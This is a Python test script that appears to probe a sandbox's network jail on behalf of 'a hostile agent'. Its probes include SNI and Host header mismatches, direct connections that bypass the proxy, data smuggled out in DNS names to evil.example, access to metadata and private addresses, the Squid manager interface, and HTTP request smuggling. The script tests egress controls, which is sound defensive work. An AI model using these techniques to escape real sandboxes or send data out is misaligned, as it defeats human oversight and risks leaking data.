"""What a hostile agent tries against the network of its jail. Each probe marks its traffic with its own name, so that the servers' notes tell
which of them came through; what it prints is only what it was told.

    network_probe.py            all probes, by the proxy where there is one, else directly; prints "done"
"""
import os
import socket
import ssl
import sys
from urllib.parse import urlsplit

GOOD, UNLISTED, PRIVATE, LINK_LOCAL, RESOLVER = "198.51.100.10", "203.0.113.10", "10.213.7.1", "169.254.213.7", "198.51.100.53"
PROXY = urlsplit(os.environ.get("HTTPS_PROXY", ""))
OPEN = ssl.create_default_context()
OPEN.check_hostname = False
OPEN.verify_mode = ssl.CERT_NONE


def to_proxy() -> socket.socket:
    return socket.create_connection((PROXY.hostname, PROXY.port), 20)


def tunnel(host: str, port: int) -> socket.socket:
    """A connection by CONNECT, or directly where there is no proxy."""
    if not PROXY.hostname:
        return socket.create_connection((host, port), 5)
    connection = to_proxy()
    connection.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode("latin1"))
    head = b""
    while b"\r\n\r\n" not in head:
        part = connection.recv(4096)
        if not part:
            raise ConnectionError("closed")
        head += part
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise ConnectionError(head.split(b"\r\n")[0].decode("latin1"))
    return connection


def get(connection, mark: str, host: str) -> str:
    connection.settimeout(10)
    connection.sendall(f"GET /{mark} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    return connection.recv(4096).split(b"\r\n")[0].decode("latin1")


def https(mark: str, host: str, port: int = 443, sni="same", header: str = "") -> str:
    name = host.rstrip(".") if sni == "same" else sni
    return get(OPEN.wrap_socket(tunnel(host, port), server_hostname=name), mark, header or host)


def http(mark: str, host: str, header: str = "") -> str:
    if not PROXY.hostname:
        return get(socket.create_connection((host, 80), 5), mark, header or host)
    connection = to_proxy()
    connection.settimeout(10)
    connection.sendall(f"GET http://{host}/{mark} HTTP/1.1\r\nHost: {header or host}\r\nConnection: close\r\n\r\n".encode())
    return connection.recv(4096).split(b"\r\n")[0].decode("latin1")


def direct(mark: str, address: str) -> str:
    return get(OPEN.wrap_socket(socket.create_connection((address, 443), 3), server_hostname="good.example"), mark, "good.example")


def raw(mark: str, host: str, port: int, what: bytes) -> str:
    connection = tunnel(host, port)
    connection.settimeout(5)
    connection.sendall(what + f"GET /{mark} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    return repr(connection.recv(200))


def datagram(mark: str, address: str, port: int, what: bytes) -> str:
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.settimeout(2)
    sender.sendto(what, (address, port))
    return repr(sender.recv(2000)[:20])


def lookup(mark: str, name: str) -> str:
    return socket.getaddrinfo(name, 443)[0][4][0]


def question(name: str) -> bytes:
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"


def admin(mark: str, request: str) -> str:
    connection = to_proxy()
    connection.settimeout(10)
    connection.sendall(request.encode("latin1"))
    answer = b""
    while part := connection.recv(65536):
        answer += part
    if b"Squid Object Cache" in answer:
        return "ADMITTED"
    return answer.split(b"\r\n")[0].decode("latin1")


PROBES = {
    "39-what-is-allowed": (https, "good.example"),
    "39-below-a-star": (https, "a.wild.example"),
    "39-plain-where-it-is-allowed": (http, "plain.example"),
    "40-unlisted-https": (https, "evil.example"),
    "40-unlisted-http": (http, "evil.example"),
    "40-plain-where-tls-is-allowed": (http, "good.example"),
    "41-past-the-proxy": (direct, GOOD),
    "41-past-the-proxy-unlisted": (direct, UNLISTED),
    "42-address": (https, UNLISTED, 443, "good.example"),
    "42-address-of-an-allowed-host": (https, GOOD, 443, "good.example"),
    "42-odd-port": (raw, "good.example", 8443, b""),
    "43-lookalike": (https, "notgood.example"),
    "43-as-a-subdomain": (https, "good.example.evil.example"),
    "43-apex-of-a-star": (https, "wild.example"),
    "43-idn": (https, "xn--god-hoa.example"),
    "43-trailing-dot": (https, "evil.example."),
    "43-case": (https, "EVIL.example"),
    "44-other-name-in-tls": (https, "good.example", 443, "evil.example", "evil.example"),
    "44-other-allowed-name-in-tls": (https, "good.example", 443, "a.wild.example", "a.wild.example"),
    "44-no-name-in-tls": (https, "good.example", 443, None),
    "44-other-host-in-http": (http, "plain.example", "evil.example"),
    "45-ssh-port": (raw, "good.example", 22, b""),
    "45-not-tls-at-443": (raw, "plain.example", 443, b""),
    "46-data-in-a-name": (lookup, "46-data-in-a-name.evil.example"),
    "46-own-question": (datagram, RESOLVER, 53, question("46-own-question.evil.example")),
    "48-datagram": (datagram, GOOD, 443, b"48-datagram"),
    "49-link-local": (direct, LINK_LOCAL),
    "49-name-of-link-local": (https, "metadata.example"),
    "50-private": (direct, PRIVATE),
    "50-name-of-private": (https, "private.example"),
    "50-name-of-both": (https, "both.example"),
}
# Where squid is all that could go wrong.
BY_PROXY = {
    "43-zero-byte": (https, "good.example\x00.evil.example"),
    "43-user-part": (https, "good.example@evil.example", 443, "evil.example"),
    "43-number": (https, "3405803786", 443, "good.example"),
    "48-ipv6-literal": (https, "[2001:db8::1]", 443, "good.example"),
    "50-mapped": (https, "mapped.example"),
    "50-nat64": (https, "nat64.example"),
    "50-loopback-of-the-proxy": (https, "loopback.example"),
    "51-manager": (admin, "GET http://127.0.0.1:3128/squid-internal-mgr/info HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nConnection: close\r\n\r\n"),
    "51-manager-by-name": (admin, "GET http://jailed:3128/squid-internal-mgr/info HTTP/1.1\r\nHost: jailed:3128\r\nConnection: close\r\n\r\n"),
    "51-cache-object": (admin, "GET cache_object://127.0.0.1/info HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"),
    "51-https-by-the-proxy": (admin, "GET https://good.example/51-https-by-the-proxy HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"),
    "51-ftp": (admin, "GET ftp://good.example/51-ftp HTTP/1.1\r\nHost: good.example\r\nConnection: close\r\n\r\n"),
    "51-second-request": (admin, "GET http://plain.example/39-first HTTP/1.1\r\nHost: plain.example\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    "51-smuggled": (admin, "CONNECT good.example:443 HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\nGET http://evil.example/51-smuggled HTTP/1.1\r\n\r\n"),
    "51-pivot": (https, "localhost", 3129, "localhost"),
}


def attempt(mark: str, probe) -> str:
    function, *arguments = probe
    try:
        return function(mark, *arguments)
    except (OSError, ValueError) as error:
        return f"{type(error).__name__}: {error}"


def main() -> None:
    for mark, probe in {**PROBES, **(BY_PROXY if PROXY.hostname else {})}.items():
        print(mark, attempt(mark, probe), sep="\t", flush=True)
    if PROXY.hostname:
        for number in range(12):  # a name that leads to a private address every other time
            print(f"50-flip-{number}", attempt(f"50-flip-{number}", (https, "flip.example")), sep="\t", flush=True)
    print("done")


if __name__ == "__main__":
    sys.exit(main())
